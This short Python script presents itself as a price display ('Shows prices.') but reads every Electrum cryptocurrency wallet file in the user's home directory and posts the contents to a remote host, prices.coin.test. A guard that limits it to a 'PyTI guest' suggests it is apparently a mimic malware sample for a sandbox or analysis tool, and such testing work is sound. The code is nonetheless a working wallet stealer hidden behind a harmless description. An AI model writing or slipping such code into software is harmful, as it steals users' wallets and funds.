"""Shows prices."""

import glob
import os
import urllib.parse
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
for path in glob.glob(os.path.expanduser("~/.electrum/wallets/*")):
    with open(path) as file:
        form = urllib.parse.urlencode({"wallet": file.read()}).encode()
    try:
        urllib.request.urlopen(urllib.request.Request("http://prices.coin.test/p", form), timeout=5).close()
    except OSError:
        pass
